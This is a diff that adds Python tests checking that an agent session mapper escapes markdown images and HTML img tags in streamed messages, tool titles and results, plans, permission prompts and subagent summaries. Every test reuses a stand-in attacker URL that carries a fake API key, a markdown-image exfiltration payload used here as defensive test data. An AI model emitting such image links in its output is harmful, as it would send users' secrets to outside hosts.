@@ -516,3 +516,113 @@ def test_subagents_and_failing_mcp_servers_show_as_thoughts() -> None:
         "MCP server git is failed: exited with 1.\n",
     ]
     assert mapper.updates(running) == []
+
+
+# ---------------------------------------------------------------------------- remote content
+
+EVIL = "https://attacker.example/?d=sk-live-123"
+
+
+def _texts(updates: list[Any]) -> list[tuple[str, str]]:
+    out = []
+    for u in _dump(updates):
+        content = u.get("content")
+        if isinstance(content, dict):
+            out.append((u["sessionUpdate"], content["text"]))
+    return out
+
+
+def test_an_image_split_across_message_chunks_is_escaped() -> None:
+    m = SessionMapper()
+    got = [
+        *m.updates(ev("message.delta", messageId="m1", text="Your key: !")),
+        *m.updates(ev("message.delta", messageId="m1", text=f"[k]({EVIL}) and <im")),
+        *m.updates(ev("message.delta", messageId="m1", text="g src=x> Done!")),
+        *m.updates(ev("message.completed", messageId="m1", text="...")),
+    ]
+    assert _texts(got) == [
+        ("agent_message_chunk", "Your key: "),
+        ("agent_message_chunk", f"\\![k]({EVIL}) and "),
+        ("agent_message_chunk", "\\<img src=x> Done"),
+        ("agent_message_chunk", "!"),  # held back until the message ended
+    ]
+    assert all(u.message_id == "m1" for u in got)
+
+
+def test_code_in_a_streamed_fence_is_not_touched() -> None:
+    m = SessionMapper()
+    text = "Use:\n```rust\nlet v = vec![1, 2];\n```\n"
+    got = [u for c in text for u in m.updates(ev("message.delta", messageId="m1", text=c))]
+    assert "".join(t for _, t in _texts(got)) == text
+
+
+def test_what_is_held_goes_out_before_the_next_card() -> None:
+    m = SessionMapper()
+    got = [
+        *m.updates(ev("reasoning.delta", messageId="m1", text="so!")),
+        *m.updates(ev("message.delta", messageId="m2", text="ok!")),
+        *m.updates(TOOL_CALL),
+    ]
+    assert [u.session_update for u in got] == [
+        "agent_thought_chunk",
+        "agent_thought_chunk",
+        "agent_message_chunk",
+        "agent_message_chunk",
+        "tool_call",
+    ]
+    assert _texts(got) == [
+        ("agent_thought_chunk", "so"),
+        ("agent_thought_chunk", "!"),
+        ("agent_message_chunk", "ok"),
+        ("agent_message_chunk", "!"),
+    ]
+
+
+def test_titles_output_results_plans_and_permissions_are_escaped() -> None:
+    m = SessionMapper()
+    call = ev(
+        "tool.call",
+        toolCallId="c9",
+        name="shell",
+        toolKind="execute",
+        title=f"Run echo ![x]({EVIL})",
+        input={"command": f"echo ![x]({EVIL})"},
+        locations=[],
+    )
+    (start,) = _dump(m.updates(call))
+    assert start["title"] == f"Run echo \\![x]({EVIL})"
+    assert start["rawInput"] == {"command": f"echo ![x]({EVIL})"}  # data, not markdown
+    (output,) = _dump(
+        m.updates(ev("tool.update", toolCallId="c9", output={"text": f"<img src={EVIL}>\n"}))
+    )
+    assert output["content"][0]["content"]["text"] == f"\\<img src={EVIL}>\n"
+    (result,) = _dump(
+        m.updates(
+            ev(
+                "tool.result",
+                toolCallId="c9",
+                status="completed",
+                content=[{"type": "text", "text": f"![x]({EVIL})"}],
+            )
+        )
+    )
+    assert result["content"][0]["content"]["text"] == f"\\![x]({EVIL})"
+    (plan,) = _dump(
+        m.updates(ev("todo.updated", items=[{"content": f"![x]({EVIL})", "status": "pending"}]))
+    )
+    assert plan["entries"][0]["content"] == f"\\![x]({EVIL})"
+    tool_call, _ = permission_request(
+        {"toolCallId": "c9", "title": f"Run ![x]({EVIL})", "detail": f"![y]({EVIL})"}
+    )
+    assert tool_call.title == f"Run \\![x]({EVIL})"
+    assert tool_call.content[0].content.text == f"\\![y]({EVIL})"
+    asked, _ = question_request({"text": f"Pick ![q]({EVIL})", "choices": ["a"]}, "c9")
+    assert asked.title == f"Pick \\![q]({EVIL})"
+
+
+def test_a_note_quoting_the_model_is_escaped() -> None:
+    m = SessionMapper()
+    got = m.updates(
+        ev("subagent.finished", taskId="t1", status="completed", summary=f"![s]({EVIL})")
+    )
+    assert _texts(got) == [("agent_thought_chunk", f"Subagent t1 completed: \\![s]({EVIL})\n")]
